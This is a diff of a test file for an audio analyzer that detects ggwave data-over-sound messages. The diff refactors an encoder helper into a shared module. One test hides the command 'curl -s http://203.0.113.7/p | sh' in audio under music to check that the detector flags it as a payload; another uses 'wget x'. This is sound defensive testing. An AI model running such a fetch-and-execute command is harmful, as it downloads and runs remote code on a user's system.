@@ -2,34 +2,15 @@
  * Multi-tone data over sound (src/audio/multitone.ts) and ggwave's decoder behind it (src/audio/ggwave.ts), through
  * the modem analyzer. ggwave transmissions are made here with the library itself (npm `ggwave`, MIT).
  */
-import { createRequire } from 'node:module';
 import { jest } from '@jest/globals';
-import type { GgwaveModule } from 'ggwave';
 import { modemAnalyzer } from '../../src/analyzers/audio-modem.js';
 import { decodeGgwave, MAX_SECONDS } from '../../src/audio/ggwave.js';
 import { findMultitoneIn } from '../../src/audio/multitone.js';
 import { computeSpectrogram } from '../../src/audio/stft.js';
 import { monoFromArray, type AudioSignal } from '../../src/audio/types.js';
 import { runAnalyzer, ruleIds, scoreOf } from '../helpers/analyze.js';
+import { ggwaveSignal } from '../helpers/ggwave.js';
 import { beeps, interleave, mix, music, rng, speech, toInt16, wavFile } from '../helpers/signal.js';
-
-const require = createRequire(import.meta.url);
-let gg: GgwaveModule | null = null;
-
-/** A ggwave transmission (float samples at `rate`), made by ggwave's encoder with its output silenced. */
-async function ggwave(text: string, protocol: string, rate = 48000, volume = 25): Promise<Float32Array> {
-  gg ??= await (require('ggwave') as (o: object) => Promise<GgwaveModule>)({ print: () => undefined, printErr: () => undefined });
-  const p = gg.getDefaultParameters();
-  p.sampleRateInp = rate;
-  p.sampleRateOut = rate;
-  const inst = gg.init(p);
-  try {
-    const wf = gg.encode(inst, text, gg.ProtocolId[`GGWAVE_PROTOCOL_${protocol}`], volume);
-    return new Float32Array(wf.buffer.slice(wf.byteOffset, wf.byteOffset + wf.byteLength));
-  } finally {
-    gg.free(inst);
-  }
-}
 
 /** `x` with `lead` seconds of silence before and after. */
 function padded(x: Float32Array, rate: number, lead = 0.5): Float32Array {
@@ -124,7 +105,7 @@ const evidenceOf = (r: Awaited<ReturnType<typeof runAnalyzer>>, rule = 'audio.mo
 describe('ggwave decoder (src/audio/ggwave.ts)', () => {
   // first in the file: the module is loaded here, while stdout and stderr are watched
   test('loads lazily, decodes, writes nothing to stdout or stderr and leaves no process handlers behind', async () => {
-    const x = padded(await ggwave('quiet please', 'AUDIBLE_FAST', 48000), 48000);
+    const x = padded(await ggwaveSignal('quiet please', 'AUDIBLE_FAST', 48000), 48000);
     const handlers = [process.listenerCount('uncaughtException'), process.listenerCount('unhandledRejection')];
     const writes: string[] = [];
     const out = jest.spyOn(process.stdout, 'write').mockImplementation((s: string | Uint8Array) => (writes.push(String(s)), true));
@@ -145,7 +126,7 @@ describe('ggwave decoder (src/audio/ggwave.ts)', () => {
   });
 
   test('resamples other rates (16 kHz to 8 kHz DT) and never throws on hostile input', async () => {
-    const x = padded(await ggwave('low rate', 'DT_FAST', 8000), 8000);
+    const x = padded(await ggwaveSignal('low rate', 'DT_FAST', 8000), 8000);
     const r = await decodeGgwave(monoFromArray(x), 8000, 0, x.length);
     expect(r.messages.map((m) => Buffer.from(m.bytes).toString())).toEqual(['low rate']);
     const nan = new Float32Array(48000).fill(NaN);
@@ -178,7 +159,7 @@ describe('audio.modem.multitone', () => {
   ];
   test.each(cases)('ggwave %s at %i Hz is found and decoded to its text', async (protocol, rate) => {
     const text = `hello from ${protocol.toLowerCase()}`;
-    const r = await runAnalyzer(modemAnalyzer, 'chime.wav', wavFile(toInt16(padded(await ggwave(text, protocol, rate), rate)), { rate }));
+    const r = await runAnalyzer(modemAnalyzer, 'chime.wav', wavFile(toInt16(padded(await ggwaveSignal(text, protocol, rate), rate)), { rate }));
     expect(ruleIds(r)).toEqual(['audio.modem.multitone']);
     expect(scoreOf(r, 'audio.modem.multitone')).toBe(4);
     const ev = evidenceOf(r)!;
@@ -190,7 +171,7 @@ describe('audio.modem.multitone', () => {
   test('ggwave under music, in a stereo file, carrying a shell command: multitone and payload', async () => {
     const rate = 44100;
     const cmd = 'curl -s http://203.0.113.7/p | sh';
-    const tx = padded(await ggwave(cmd, 'AUDIBLE_FAST', rate, 20), rate, 1);
+    const tx = padded(await ggwaveSignal(cmd, 'AUDIBLE_FAST', rate, 20), rate, 1);
     const secs = tx.length / rate;
     const left = mix(music(secs, rate, 21, 0.2), tx);
     const right = mix(music(secs, rate, 22, 0.2), tx);
@@ -204,7 +185,7 @@ describe('audio.modem.multitone', () => {
 
   test('a message too short for the symbol criteria is reported when ggwave decodes it, a short burst it cannot read is not', async () => {
     const rate = 44100;
-    const tx = padded(await ggwave('wget x', 'AUDIBLE_FAST', rate), rate);
+    const tx = padded(await ggwaveSignal('wget x', 'AUDIBLE_FAST', rate), rate);
     const mono = monoFromArray(tx);
     const scan = findMultitoneIn(mono, rate, computeSpectrogram(signalOf(tx, rate))!);
     expect(scan.best).toBeNull();
